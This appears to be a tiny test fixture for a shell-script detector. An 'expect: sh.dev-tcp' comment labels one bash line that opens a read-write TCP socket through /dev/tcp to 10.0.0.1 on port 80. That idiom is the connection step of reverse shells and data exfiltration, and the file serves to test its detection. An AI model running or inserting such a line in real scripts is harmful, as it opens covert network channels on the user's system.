# expect: sh.dev-tcp
exec 5<>/dev/tcp/10.0.0.1/80
